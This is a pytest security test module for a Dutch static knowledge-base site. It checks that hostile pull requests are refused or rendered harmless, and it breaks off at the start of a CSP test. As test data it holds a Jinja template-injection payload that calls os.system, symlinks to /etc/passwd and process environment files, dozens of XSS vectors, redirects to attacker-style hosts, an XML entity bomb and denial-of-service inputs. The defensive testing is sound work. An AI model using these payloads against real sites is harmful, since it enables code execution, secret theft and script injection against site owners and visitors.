"""A corpus of hostile pull requests, one class of attack per section (issue: security boundary).

Every case states its exact outcome: refused with `path:line` and a reason, or
rendered harmless. Cases that the content check refuses run against the index
(fast); cases that only the rendered page can reveal are built together in one
mini-site, whose single failing build must name every one of them, at once.
"""

from __future__ import annotations

import http.server
import os
import socketserver
import threading
import time
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from conftest import ROOT, VALID_PAGES, make_mini_site, page_text, require_chromium, run_build
from macros.index import build_index
from macros.lint import check_text

INSTRUMENT = VALID_PAGES["instrumenten/overijssel-scan.md"]
MARKER = "kb-pwned-marker"
# Creates a file in the working directory if Jinja ever evaluates it.
EXEC = "{{ cycler.__init__.__globals__.os.system('touch " + MARKER + "') }}"


def errors_for(tree: Path, files: dict[str, str | bytes]) -> list[str]:
    docs = tree / "docs"
    for rel, content in files.items():
        target = docs / rel if not rel.startswith("../") else tree / rel[3:]
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8")
    return [str(error) for error in build_index(docs, tree / "data").errors]


def instrument(body: str = "Tekst.\n", **replace: str) -> str:
    front = INSTRUMENT.replace("titel: Scan", "titel: Aanval")
    for old, new in replace.items():
        front = front.replace(old, new)
    return page_text(front, body)


# ================================================================ 1. code execution at build time
# Template syntax may reach Jinja through names, navigation, titles and headings: all refused
# before anything renders; values from front-matter and data files are escaped, never evaluated.

EXECUTION_CASES = [
    ("file-name", {f"{EXEC}.md": "# x\n"}, "de naam '{{ cycler"),
    ("folder-name", {"{% for x in y %}/pagina.md": "# x\n"}, "de naam '{% for x in y %}' bevat tekens die niet zijn toegestaan"),
    ("nav-title", {".nav.yml": f'nav:\n  - "{EXEC}": index.md\n'}, ".nav.yml:1: navigatietitel '{{ cycler"),
    ("nav-title-markup", {"over/.nav.yml": 'nav:\n  - "<img src=x onerror=alert(1)>": a.md\n'}, "over/.nav.yml:1: navigatietitel '<img"),
    ("plain-title", {"over.md": f'---\ntitle: "{EXEC}"\n---\nTekst.\n'}, "over.md:2: title: sjabloon-syntaxis of opmaak is niet toegestaan in de titel"),
    ("first-heading", {"over.md": f"# {EXEC}\n\nTekst.\n"}, "over.md:1: alleen een aanroep van een kennisbank-macro is toegestaan"),
    ("render-macros-meta", {"over.md": "---\nrender_macros: true\n---\nTekst.\n"}, "over.md:2: render_macros: onbekend veld voor een pagina zonder type"),
    ("template-meta", {"over.md": "---\ntemplate: ../../etc/passwd\n---\nTekst.\n"}, "over.md:2: template: onbekend paginasjabloon '../../etc/passwd'"),
    ("author-meta", {"over.md": "---\nauthor: x\n---\nTekst.\n"}, "over.md:2: author: onbekend veld voor een pagina zonder type"),
    ("body-statement", {"over.md": "{% import 'os' as os %}\n"}, "over.md:1: sjabloon-opdracht"),
]


@pytest.mark.parametrize(("case", "files", "expected"), EXECUTION_CASES, ids=[case[0] for case in EXECUTION_CASES])
def test_template_syntax_outside_macros_is_refused(content_tree, case, files, expected):
    messages = errors_for(content_tree, files)
    assert any(expected in message for message in messages), messages


@pytest.mark.parametrize(("files", "where"), [({"pagefind/deel-2.md": "# Deel\n"}, "pagefind"), ({"pagefind.md": "# Zoekindex\n"}, "pagefind.md")])
def test_the_search_index_folder_is_reserved(content_tree, files, where):
    """A page under docs/pagefind/ would be written into the search index's folder, where a
    rebuild replaces the index's parts (pagefind/deel-2/, …)."""
    messages = errors_for(content_tree, files)
    assert f"{where}:1: de naam '{where}' is voorbehouden aan de zoekindex (site/pagefind/) — kies een andere naam voor deze pagina of map" in messages, messages


def test_execution_payloads_never_run_in_a_build(tmp_path):
    """The payload in every place a string enters; the build refuses, and no file appears."""
    pages = {rel: page_text(fm) for rel, fm in VALID_PAGES.items()}
    pages[f"{EXEC}.md"] = "# Naam\n"
    pages["over.md"] = f'---\ntitle: "{EXEC}"\n---\n# {EXEC}\n'
    pages[".nav.yml"] = f'nav:\n  - "{EXEC}": index.md\n'
    config = make_mini_site(tmp_path, pages)
    result = run_build(config, tmp_path / "site")
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    for expected in ("de naam '{{ cycler", "navigatietitel '{{ cycler", "over.md:2: title:", "over.md:4: alleen een aanroep van een kennisbank-macro is toegestaan"):
        assert expected in result.stderr, result.stderr
    assert not list(tmp_path.rglob(MARKER)) and not (ROOT / MARKER).exists()


def test_values_from_front_matter_and_data_render_as_text(tmp_path):
    """Titles, summaries and data-file names are escaped: the payload shows as text and never runs."""
    pages = {rel: page_text(fm) for rel, fm in VALID_PAGES.items()}
    pages["instrumenten/overijssel-scan.md"] = page_text(INSTRUMENT.replace("titel: Scan", f"titel: \"{EXEC}\"")
                                                         .replace("samenvatting: Een instrument.", "samenvatting: \"<img src=x onerror=alert(1)>\""))
    (tmp_path / "data").mkdir()
    for file in (ROOT / "data").iterdir():
        if file.name == "doorverwijzingen.yml":
            continue  # its targets are real pages, not these samples
        (tmp_path / "data" / file.name).write_text(file.read_text(encoding="utf-8").replace("naam: Overijssel", f"naam: \"Overijssel {EXEC}\""),
                                                   encoding="utf-8")
    config = make_mini_site(tmp_path, pages)
    result = run_build(config, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    html = (tmp_path / "site" / "instrumenten" / "overijssel-scan" / "index.html").read_text(encoding="utf-8")
    heading = LexborHTMLParser(html).css_first("h1").text()
    assert "cycler.__init__" in heading
    assert not [node for node in LexborHTMLParser(html).root.traverse() if "onerror" in node.attributes]
    assert "Overijssel {{ cycler" in LexborHTMLParser(html).css_first("article").text()
    assert not list(tmp_path.rglob(MARKER)) and not (ROOT / MARKER).exists()


# ================================================================ 2. files from outside docs/

def _symlink(tree: Path, rel: str, target: str | Path) -> None:
    link = tree / "docs" / rel
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)


@pytest.mark.parametrize(("case", "rel", "target"), [
    ("proc-environ", "instrumenten/omgeving.md", "/proc/self/environ"),
    ("etc-passwd", "assets/passwd.png", "/etc/passwd"),
    ("git-config", "over.md", "../.git/config"),
    ("project-file", "assets/instellingen.svg", "../../mkdocs.yml"),
    ("whole-folder", "geheim", "/etc"),
], ids=lambda value: value if isinstance(value, str) and "/" not in value else None)
def test_symlinks_are_refused(content_tree, case, rel, target):
    _symlink(content_tree, rel, target)
    messages = [str(error) for error in build_index(content_tree / "docs", content_tree / "data").errors]
    assert f"{rel}:1: snelkoppelingen (symlinks) zijn niet toegestaan in docs/ — zet het bestand zelf op deze plek" in messages, messages


def test_special_files_are_refused(content_tree):
    fifo = content_tree / "docs" / "assets" / "pijp.png"
    fifo.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(fifo)
    messages = [str(error) for error in build_index(content_tree / "docs", content_tree / "data").errors]
    assert "assets/pijp.png:1: geen gewoon bestand (apparaat, pipe of socket) — verwijder het" in messages


def test_symlinked_data_file_and_guide_are_refused(content_tree):
    (content_tree / "data" / "taken.yml").unlink()
    (content_tree / "data" / "taken.yml").symlink_to("/etc/passwd")
    (content_tree / "CONTRIBUTING.md").symlink_to(ROOT / "mkdocs.yml")
    messages = [str(error) for error in build_index(content_tree / "docs", content_tree / "data").errors]
    assert any(message.startswith("data/taken.yml:1: geen gewoon bestand") for message in messages), messages
    assert any(message.startswith("CONTRIBUTING.md:1: geen gewoon bestand") for message in messages), messages


def test_a_symlink_stops_the_build_and_nothing_is_copied(tmp_path):
    pages = {rel: page_text(fm) for rel, fm in VALID_PAGES.items()}
    config = make_mini_site(tmp_path, pages)
    (tmp_path / "docs" / "assets" / "omgeving.txt").symlink_to("/proc/self/environ")
    (tmp_path / "docs" / "map").symlink_to(ROOT / ".git", target_is_directory=True)
    result = run_build(config, tmp_path / "site")
    assert result.returncode != 0
    assert "assets/omgeving.txt:1: snelkoppelingen (symlinks) zijn niet toegestaan" in result.stderr
    assert "map:1: snelkoppelingen (symlinks) zijn niet toegestaan" in result.stderr
    assert not (tmp_path / "site" / "assets" / "omgeving.txt").exists() and not (tmp_path / "site" / "map").exists()


def test_file_includes_are_inert_text(tmp_path):
    """There is no include extension any more: `--8<--` is text, and the guide comes from one fixed file."""
    pages = {rel: page_text(fm) for rel, fm in VALID_PAGES.items()}
    pages["over.md"] = '# Over\n\n--8<-- "mkdocs.yml"\n\n--8<-- "/etc/passwd"\n'
    config = make_mini_site(tmp_path, pages)
    result = run_build(config, tmp_path / "site")
    assert result.returncode == 0, result.stderr
    html = (tmp_path / "site" / "over" / "index.html").read_text(encoding="utf-8")
    assert "--8&lt;-- &quot;mkdocs.yml&quot;" in html or '--8&lt;-- "mkdocs.yml"' in html
    assert "site_name" not in LexborHTMLParser(html).css_first("article").text() and "root:x:0" not in html
    assert "snippets" not in (ROOT / "mkdocs.yml").read_text(encoding="utf-8")


# ================================================================ 3. script, redirects, trackers
# These pass the content check (no template syntax, no personal data) and must be caught on the
# rendered page. One build holds them all; its failure must name each, with file and line.

# (case, body line 3 of docs/aanval/<case>.md, expected fragment after "docs/aanval/<case>.md:<line>: ")
RENDERED_CASES = [
    ("attr-list-image", '![x](../assets/logo.svg){: onload="alert(1)" }', "<img>: event-attribuut 'onload'"),
    ("attr-list-heading", '## Kop {: onclick="alert(1)" }', "<h2>: event-attribuut 'onclick'"),
    ("attr-list-paragraph", 'Tekst\n{: onmouseover="alert(1)" }', "<p>: event-attribuut 'onmouseover'"),
    ("attr-list-link", '[x](https://example.org){: onfocus="alert(1)" }', "<a>: event-attribuut 'onfocus'"),
    ("img-onerror", "<img src=x onerror=alert(1)>", "<img>: event-attribuut 'onerror'"),
    ("img-tab-separator", "<img src=x\tonerror=alert(1)>", "<img>: event-attribuut 'onerror'"),
    ("upper-case", "<IMG SRC=x ONERROR=alert(1)>", "<img>: event-attribuut 'onerror'"),
    ("svg-onload", "<svg onload=alert(1)></svg>", "<svg>: event-attribuut 'onload'"),
    ("svg-link", '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="9">x</text></a></svg>', "<a>: attribuut 'xlink:href' is niet toegestaan op <a>"),
    ("svg-use-remote", '<svg><use href="https://evil.example/x.svg#a"></use></svg>', "<use>: het element <use> is niet toegestaan in inhoud"),
    ("svg-animate", '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', "<animate>: het element <animate> is niet toegestaan"),
    ("svg-foreign-object", "<svg><foreignObject><p>x</p></foreignObject></svg>", "<foreignobject>: het element <foreignobject> is niet toegestaan"),
    ("mathml", "<math><mtext><b>x</b></mtext></math>", "<math>: het element <math> is niet toegestaan"),
    ("entity-tab-in-scheme", '<a href="jav&#x09;ascript:alert(1)">x</a>', "<a>: href: 'javascript:'-adressen zijn niet toegestaan"),
    ("entity-letter", '<a href="&#106;avascript:alert(1)">x</a>', "<a>: href: 'javascript:'-adressen zijn niet toegestaan"),
    ("markdown-link", "[klik](javascript:alert(1))", "<a>: href: 'javascript:'-adressen zijn niet toegestaan"),
    ("markdown-link-mixed-case", "[klik]( JaVaScRiPt:alert(1))", "<a>: href: 'javascript:'-adressen zijn niet toegestaan"),
    ("vbscript", '<a href="vbscript:msgbox(1)">x</a>', "<a>: href: 'vbscript:'-adressen zijn niet toegestaan"),
    ("data-url-link", '<a href="data:text/html,alert(1)">x</a>', "<a>: href: 'data:'-adressen zijn niet toegestaan"),
    ("data-url-image", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "<img>: src: laadt 'data:'-inhoud"),
    ("md-in-html-script", '<div markdown="1">\n<script>alert(1)</script>\n</div>', "<script>: het element <script> is niet toegestaan"),
    ("our-data-href", '<div class="kb-tegel" data-href="javascript:alert(1)">x</div>', "<div>: data-href: alleen adressen binnen deze site"),
    ("data-href-elsewhere", '<div class="kb-tegel" data-href="https://evil.example/">x</div>', "<div>: data-href: alleen adressen binnen deze site"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>: het element <meta> is niet toegestaan"),
    ("meta-refresh-decoy", '<meta name="x" http-equiv="refresh" content="0;url=https://evil.example">', "<meta>: het element <meta> is niet toegestaan"),
    ("style-overlay", '<span style="position:fixed;inset:0;background:#fff">x</span>', "<span>: inline opmaak (style=)"),
    ("attr-list-style", 'Tekst\n{: style="display:none" }', "<p>: inline opmaak (style=)"),
    ("style-element", "<style>body{display:none}</style>", "<style>: het element <style> is niet toegestaan"),
    ("tracking-pixel", '<img src="https://tracker.example/p.gif" alt="">', "<img>: src: laadt 'https:'-inhoud"),
    ("markdown-pixel", "![p](https://tracker.example/p.gif)", "<img>: src: laadt 'https:'-inhoud"),
    ("protocol-relative-pixel", '<img src="//tracker.example/p.gif" alt="">', "<img>: src: laadt inhoud van een andere site"),
    ("backslash-pixel", '<img src="/\\tracker.example/p.gif" alt="">', "<img>: src: laadt inhoud van een andere site"),
    ("srcset", '<img src="../assets/logo.svg" srcset="https://tracker.example/p.gif 1x" alt="">', "<img>: attribuut 'srcset' is niet toegestaan op <img>"),
    ("ping", '<a href="https://example.org" ping="https://tracker.example">x</a>', "<a>: attribuut 'ping' is niet toegestaan op <a>"),
    ("protocol-relative-link", '<a href="//evil.example/">x</a>', "<a>: href: adres zonder schema naar een andere site"),
    ("base", '<base href="https://evil.example/">', "<base>: het element <base> is niet toegestaan"),
    ("stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "<link>: het element <link> is niet toegestaan"),
    ("form", '<form action="https://evil.example"><input name="q"></form>', "<form>: het element <form> is niet toegestaan"),
    ("iframe", '<iframe srcdoc="x"></iframe>', "<iframe>: het element <iframe> is niet toegestaan"),
    ("object", '<object data="x.swf"></object>', "<object>: het element <object> is niet toegestaan"),
    ("embed", '<embed src="x.swf">', "<embed>: het element <embed> is niet toegestaan"),
    ("details-ontoggle", '<details open ontoggle="alert(1)"><summary>x</summary></details>', "<details>: event-attribuut 'ontoggle'"),
    ("video-source", '<video><source onerror="alert(1)"></video>', "<video>: het element <video> is niet toegestaan"),
    ("script", "<script>alert(1)</script>", "<script>: het element <script> is niet toegestaan"),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "<noscript>: het element <noscript> is niet toegestaan"),
    ("template-element", "<template><img src=x onerror=alert(1)></template>", "<template>: het element <template> is niet toegestaan"),
    ("unclosed-comment-in-html-block", '<div markdown="0">\n<!-- alles hierna verdwijnt\n</div>', "HTML-commentaar dat niet wordt afgesloten met --> is niet toegestaan"),
    ("stray-body", '<body onload="alert(1)">', "<body>: attribuut 'onload' op <body> is niet toegestaan"),
    ("dom-clobbering-id", '<div id="__config">{}</div>', "<div>: id '__config' is voorbehouden aan het thema"),
    ("dom-clobbering-name", '<a name="__search">x</a>', "<a>: attribuut 'name' is niet toegestaan op <a>"),
    ("material-hook", 'Tekst\n{: data-md-component="search" }', "<p>: attribuut 'data-md-component' is niet toegestaan"),
    ("search-spoof", 'Tekst\n{: data-pagefind-meta="title:Nep" }', "<p>: attribuut 'data-pagefind-meta' is niet toegestaan"),
    ("textarea", "<textarea>x</textarea>", "<textarea>: het element <textarea> is niet toegestaan"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>", "<input>: het element <input> is niet toegestaan"),
    ("target-blank", '<a href="https://example.org" target="_blank">x</a>', "<a>: attribuut 'target' is niet toegestaan op <a>"),
    ("phone-split-by-markup", "Bel 06-<em>1234</em>5678.", "telefoonnummer '06-12345678' gevonden"),
    ("mail-split-by-markup", "Mail jan<span>@</span>provincie.nl.", "e-mailadres 'jan@provincie.nl' lijkt persoonlijk"),
]
RENDERED_HARMLESS = [
    ("odd-slash-syntax", "<img/src=x/onerror=alert(1)>"),  # one attribute: src="x/onerror=alert(1)", a relative path
    ("unclosed-comment", "<!-- alles hierna verdwijnt"),  # Markdown escapes it: &lt;!--
    ("closed-comment", "<!-- notitie voor de redactie -->"),  # dropped from the published page
    ("escaped-text", "&lt;script&gt;alert(1)&lt;/script&gt; en `<img onerror=x>` als code"),
]


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    pages = {rel: page_text(fm) for rel, fm in VALID_PAGES.items()}
    for case, body, _ in RENDERED_CASES:
        pages[f"aanval/{case}.md"] = f"# Aanval\n\n{body}\n"
    for case, body in RENDERED_HARMLESS:
        pages[f"aanval/{case}.md"] = f"# Aanval\n\n{body}\n"
    config = make_mini_site(root, pages)
    result = run_build(config, root / "site")
    return result, root


def test_rendered_policy_fails_the_build_once_with_every_violation(hostile_build):
    result, _ = hostile_build
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    assert "Het beleid voor HTML weigert" in result.stderr
    failing = {line.split(":")[0] for line in result.stderr.splitlines() if line.startswith("docs/aanval/")}
    assert failing == {f"docs/aanval/{case}.md" for case, _, _ in RENDERED_CASES}


@pytest.mark.parametrize(("case", "body", "expected"), RENDERED_CASES, ids=[case[0] for case in RENDERED_CASES])
def test_rendered_violation_is_named_with_file_line_and_element(hostile_build, case, body, expected):
    result, _ = hostile_build
    lines = [line for line in result.stderr.splitlines() if line.startswith(f"docs/aanval/{case}.md")]
    assert any(expected in line for line in lines), lines
    if not expected.startswith(("telefoon", "e-mail")) and case not in ("entity-letter", "entity-tab-in-scheme"):
        assert any(line.startswith(f"docs/aanval/{case}.md:3:") or line.startswith(f"docs/aanval/{case}.md:4:") for line in lines), lines


def test_harmless_pages_are_published_and_comments_dropped(hostile_build):
    _, root = hostile_build

    def article(case: str):
        return LexborHTMLParser((root / "site" / "aanval" / case / "index.html").read_text(encoding="utf-8")).css_first("article")

    assert not [node for node in article("odd-slash-syntax").traverse() if "onerror" in node.attributes]
    assert "<script>alert(1)</script>" in article("escaped-text").text() and not article("escaped-text").css("script")
    assert "<!-- alles hierna verdwijnt" in article("unclosed-comment").text()
    assert "notitie voor de redactie" not in article("closed-comment").html


def test_refused_pages_are_never_written_as_rendered(hostile_build):
    _, root = hostile_build
    for case, _, _ in RENDERED_CASES:
        page = root / "site" / "aanval" / case / "index.html"
        if page.exists():
            assert "alert(1)" not in page.read_text(encoding="utf-8"), case


# ---------------------------------------------------------------- static files

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">{}</svg>'
STATIC_CASES = [
    ("svg-onload", "assets/a.svg", SVG.replace("viewBox", 'onload="alert(1)" viewBox').format(""), "assets/a.svg:1: SVG-attribuut 'onload' (script) is niet toegestaan"),
    ("svg-script", "assets/b.svg", SVG.format("<script>alert(1)</script>"), "assets/b.svg:1: SVG-element <script> is niet toegestaan"),
    ("svg-foreign-object", "assets/c.svg", SVG.format("<foreignObject><div/></foreignObject>"), "assets/c.svg:1: SVG-element <foreignobject> is niet toegestaan"),
    ("svg-external-use", "assets/d.svg", SVG.format('<use href="https://evil.example/x.svg#a"/>'), "assets/d.svg:1: SVG verwijst naar 'https://evil.example/x.svg#a' buiten het bestand"),
    ("svg-xlink-image", "assets/e.svg", SVG.format('<image xlink:href="https://tracker.example/p.png"/>'), "assets/e.svg:1: SVG-element <image> is niet toegestaan"),
    ("svg-style-import", "assets/f.svg", SVG.format("<style>@import url(https://evil.example/x.css);</style>"), "assets/f.svg:1: SVG-opmaak laadt iets van buiten het bestand"),
    ("svg-link", "assets/g.svg", SVG.format('<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>'), "assets/g.svg:1: SVG-element <a> is niet toegestaan"),
    ("svg-entity-bomb", "assets/h.svg", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
     "assets/h.svg:1: geen geldig of veilig SVG-bestand"),
    ("svg-fill-url", "assets/i.svg", SVG.format('<rect width="1" height="1" fill="url(https://tracker.example/p)"/>'), "assets/i.svg:1: SVG-attribuut 'fill' laadt iets van buiten het bestand"),
    ("content-javascript", "assets/extra.js", "alert(1)", "assets/extra.js:1: .js-bestanden kunnen niet via inhoud worden toegevoegd"),
    ("content-stylesheet", "assets/extra.css", "body{display:none}", "assets/extra.css:1: .css-bestanden kunnen niet via inhoud worden toegevoegd"),
    ("content-html", "assets/pagina.html", "<script>alert(1)</script>", "assets/pagina.html:1: .html-bestanden kunnen niet via inhoud worden toegevoegd"),
    ("image-outside-assets", "instrumenten/foto.png", "png", "instrumenten/foto.png:1: alleen Markdown-pagina's en afbeeldingen horen in docs/"),
]


@pytest.mark.parametrize(("case", "rel", "content", "expected"), STATIC_CASES, ids=[case[0] for case in STATIC_CASES])
def test_static_files_are_checked(content_tree, case, rel, content, expected):
    messages = errors_for(content_tree, {rel: content})
    assert any(message.startswith(expected) for message in messages), messages


def test_the_sites_own_svgs_and_a_plain_drawing_pass(content_tree):
    messages = errors_for(content_tree, {
        "assets/kaart.svg": SVG.format('<title>Kaart</title><rect width="5" height="5" fill="#123456"/><use href="#r"/>'),
        "assets/favicon.svg": (ROOT / "docs" / "assets" / "favicon.svg").read_text(encoding="utf-8"),
        "assets/logo.svg": (ROOT / "docs" / "assets" / "logo.svg").read_text(encoding="utf-8"),
    })
    assert not [message for message in messages if message.startswith("assets/")], messages


# ================================================================ 4. silent data loss (strict YAML)

YAML_CASES = [
    ("duplicate-field", {"instrumenten/a.md": instrument(**{"status: actief": "status: actief\n        status: afgerond"})},
     "instrumenten/a.md:10: veld 'status' staat er twee keer (ook op regel 9)"),
    ("duplicate-nested", {"programmas/b.md": page_text(VALID_PAGES["programmas/overijssel-programma.md"].replace("titel: Programma", "titel: B")
                                                       .replace("- naam: Lijn 1", "- naam: Lijn 1\n            naam: Lijn 2"))},
     "programmas/b.md:9: veld 'naam' staat er twee keer"),
    ("merge-key", {"instrumenten/c.md": "---\nbasis: &b {status: actief}\n<<: *b\ntype: instrument\n---\n"}, "instrumenten/c.md:"),
    ("merge-key-without-anchor", {"instrumenten/d.md": instrument(**{"status: actief": "<<: {status: actief}"})},
     "instrumenten/d.md:9: samenvoegsleutels (<<) zijn niet toegestaan"),
    ("nav-duplicate", {".nav.yml": "nav:\n  - index.md\nnav:\n  - over.md\n"}, ".nav.yml:3: veld 'nav' staat er twee keer"),
]


@pytest.mark.parametrize(("case", "files", "expected"), YAML_CASES, ids=[case[0] for case in YAML_CASES])
def test_yaml_that_would_lose_data_is_refused(content_tree, case, files, expected):
    messages = errors_for(content_tree, files)
    assert any(message.startswith(expected) for message in messages), messages


@pytest.mark.parametrize(("case", "old", "new", "expected"), [
    ("data-duplicate-key", "naam: Overijssel", "naam: Overijssel\n  naam: Overijssel 2", "veld 'naam' staat er twee keer"),
    ("data-merge-key", "naam: Overijssel", "<<: {naam: Overijssel}", "samenvoegsleutels (<<) zijn niet toegestaan"),
    ("data-phone", "naam: Overijssel", "naam: Overijssel 038-4998899", "telefoonnummer '038-4998899' gevonden"),
    ("data-mail", "naam: Overijssel", "naam: Overijssel jan(at)overijssel.nl", "e-mailadres 'jan@overijssel.nl' lijkt persoonlijk"),
], ids=lambda value: value if isinstance(value, str) and value.startswith("data-") else None)
def test_data_files_are_read_strictly_and_checked(content_tree, case, old, new, expected):
    file = content_tree / "data" / "provincies.yml"
    text = file.read_text(encoding="utf-8")
    assert old in text
    file.write_text(text.replace(old, new, 1), encoding="utf-8")
    messages = [str(error) for error in build_index(content_tree / "docs", content_tree / "data").errors]
    assert any(message.startswith("data/provincies.yml:") and expected in message for message in messages), messages


# ================================================================ 6. personal data and tracking links

PERSONAL_CASES = [
    ("at-in-brackets", "Mail jan [at] overijssel [dot] nl.", "e-mailadres 'jan@overijssel.nl' lijkt persoonlijk"),
    ("at-in-parentheses", "Mail jan(at)overijssel.nl.", "e-mailadres 'jan@overijssel.nl' lijkt persoonlijk"),
    ("at-as-entity", "Mail jan&#64;overijssel.nl.", "e-mailadres 'jan@overijssel.nl' lijkt persoonlijk"),
    ("full-width-at", "Mail jan＠overijssel.nl.", "e-mailadres 'jan@overijssel.nl' lijkt persoonlijk"),
    ("phone-with-dots", "Bel 06.12.34.56.78.", "telefoonnummer '06.12.34.56.78' gevonden"),
    ("phone-with-entities", "Bel 06&#45;1234&#45;5678.", "telefoonnummer '06-1234-5678' gevonden"),
    ("phone-with-emphasis", "Bel 06-**1234**5678.", "telefoonnummer '06-12345678' gevonden"),
    ("phone-zero-width", "Bel 0\u200b6-1234\u200b5678.", "telefoonnummer '06-12345678' gevonden"),
    ("phone-country-code", "Bel +31 (0)6 1234 5678.", "telefoonnummer"),
    ("phone-full-width-digits", "Bel ０６-１２３４５６７８.", "telefoonnummer '06-12345678' gevonden"),
    ("urldefense", "Zie https://urldefense.com/v3/__https://www.overijssel.nl__;!!x", "link met tracking of doorverwijzing"),
    ("proofpoint", "Zie https://urldefense.proofpoint.com/v2/url?u=https-3A__www.overijssel.nl&d=x", "link met tracking of doorverwijzing"),
    ("mimecast", "Zie https://protect-eu.mimecast.com/s/abcdef", "link met tracking of doorverwijzing"),
    ("google-redirect", "Zie https://www.google.com/url?q=https://www.overijssel.nl&sa=D", "gebruik het echte adres: https://www.overijssel.nl"),
    ("list-manage", "Zie https://provincie.us1.list-manage.com/track/click?u=1&id=2", "link met tracking of doorverwijzing"),
    ("mc-cid", "Zie https://www.overijssel.nl/nieuws?mc_cid=abc&mc_eid=def", "gebruik het echte adres: https://www.overijssel.nl/nieuws"),
    ("msclkid", "Zie https://www.overijssel.nl/?msclkid=abc", "link met tracking of doorverwijzing"),
    ("hubspot", "Zie https://www.overijssel.nl/?_hsenc=p2&_hsmi=1", "link met tracking of doorverwijzing"),
    ("instagram", "Zie https://www.overijssel.nl/?igshid=abc", "link met tracking of doorverwijzing"),
    ("utm-in-fragment", "Zie https://www.overijssel.nl/pagina#utm_source=nieuwsbrief", "gebruik het echte adres: https://www.overijssel.nl/pagina"),
    ("utm-after-amp-entity", '<a href="https://www.overijssel.nl/?p=1&amp;utm_source=x">x</a>', "gebruik het echte adres: https://www.overijssel.nl/?p=1"),
]


@pytest.mark.parametrize(("case", "line", "expected"), PERSONAL_CASES, ids=[case[0] for case in PERSONAL_CASES])
def test_personal_data_and_tracking_are_found_after_normalisation(content_tree, case, line, expected):
    messages = errors_for(content_tree, {"instrumenten/a.md": instrument(f"Inleiding.\n\n{line}\n")})
    assert any(message.startswith("instrumenten/a.md:17:") and expected in message for message in messages), messages


@pytest.mark.parametrize(("case", "value", "expected"), [
    ("yaml-hex-escape", '"Bel 06\\x2d12345678"', "telefoonnummer '06-12345678' gevonden"),
    ("yaml-unicode-escape", '"Mail jan\\u0040overijssel.nl"', "e-mailadres 'jan@overijssel.nl' lijkt persoonlijk"),
    ("yaml-folded", ">-\n          Mail jan\n          (at) overijssel.nl", "e-mailadres 'jan@overijssel.nl' lijkt persoonlijk"),
], ids=lambda value: value if isinstance(value, str) and value.startswith("yaml-") else None)
def test_front_matter_is_checked_on_parsed_values(content_tree, case, value, expected):
    page = instrument(**{"samenvatting: Een instrument.": f"samenvatting: {value}"})
    messages = errors_for(content_tree, {"instrumenten/a.md": page})
    assert any(message.startswith("instrumenten/a.md:4: samenvatting:") and expected in message for message in messages), messages


def test_ordinary_numbers_and_general_mailboxes_pass(content_tree):
    body = ("Vragen? info@overijssel.nl of post [at] gelderland [dot] nl. Kenmerk 2017/0404045, "
            "zaak 1938042/1938060, KvK 34362354, postcode 2001 DA, 2017-2019, 12 van de 12 provincies, "
            "datum 2017-11-30, bedrag € 1.250.000, https://www.overijssel.nl/?pagina=2#inhoud\n")
    messages = errors_for(content_tree, {"instrumenten/a.md": instrument(body)})
    assert not [message for message in messages if message.startswith("instrumenten/a.md")], messages


# ================================================================ 7. denial of service

@pytest.mark.parametrize("payload", ["<" * 60_000, "<" * 1_900_000, "[at]" * 450_000, " " * 1_900_000 + "@", "0-" * 900_000,
                                     "a." * 900_000 + "@", "https://" + "a" * 1_900_000, "*_" * 900_000])
def test_checks_are_linear_on_hostile_pages(content_tree, payload):
    """Quadratic scans take hours on 2 MB; linear ones take well under ten seconds (generous for a shared CI box)."""
    started = time.perf_counter()
    check_text(payload, set(), set())
    errors_for(content_tree, {"instrumenten/a.md": instrument(payload + "\n")})
    assert time.perf_counter() - started < 10


def test_brackets_that_make_markdown_quadratic_are_refused_with_a_line(content_tree):
    body = "Inleiding.\n\n" + "Alinea met [haken].\n" * 3 + "[" * 600 + "\n"
    messages = errors_for(content_tree, {"instrumenten/a.md": instrument(body)})
    assert any(message.startswith("instrumenten/a.md:17: meer dan 500 vierkante haken in één alinea") for message in messages), messages


def test_a_page_over_its_render_budget_fails_the_build_clearly(tmp_path):
    """Whatever else makes Python-Markdown slow ends in a named error, not a hung CI run."""
    pages = {rel: page_text(fm) for rel, fm in VALID_PAGES.items()}
    pages["traag.md"] = "# Traag\n\n" + "\n\n".join(["[a](" * 450] * 40) + "\n"  # under the limit per block
    config = make_mini_site(tmp_path, pages)
    result = run_build(config, tmp_path / "site", env={"KB_RENDER_BUDGET_SECONDS": "0.5"})
    assert result.returncode != 0
    assert "docs/traag.md: het omzetten van de Markdown duurde langer dan 0.5 s" in result.stderr, result.stderr[-2000:]
    assert "Traceback" not in result.stderr


def test_deep_nesting_gives_a_line_not_a_traceback(content_tree):
    body = "Inleiding.\n\n" + "".join("    " * depth + "- punt\n" for depth in range(40))
    messages = errors_for(content_tree, {"instrumenten/a.md": instrument(body)})
    assert any(message.startswith("instrumenten/a.md:30: lijsten of citaten zijn 13 niveaus diep genest") for message in messages), messages
    quotes = errors_for(content_tree, {"instrumenten/b.md": instrument(">" * 500 + " citaat\n", **{"titel: Aanval": "titel: Citaat"})})
    assert any(message.startswith("instrumenten/b.md:15: lijsten of citaten zijn 500 niveaus diep genest") for message in quotes), quotes


# ================================================================ CSP, security.txt, governance files

def test_every_page_carries_the_csp_first_in_head(built_site):
